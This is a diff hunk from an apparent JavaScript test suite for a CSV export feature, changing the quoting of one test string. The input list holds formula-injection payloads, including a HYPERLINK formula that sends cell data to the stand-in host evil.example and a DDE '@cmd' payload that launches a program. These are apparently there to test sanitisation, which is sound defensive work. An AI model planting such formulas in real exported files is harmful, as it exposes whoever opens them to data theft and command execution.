@@ -63,7 +63,7 @@ describe('the CSV export', () => {
       '=HYPERLINK("http://evil.example/?"&A1,"Click")',
       '+SUM(1,2)',
       '-2+3',
-      '@cmd|\' /C calc\'!A0',
+      "@cmd|' /C calc'!A0",
       '\uFF1D1+1',
       'plain, with a comma',
       'she said "hi"',
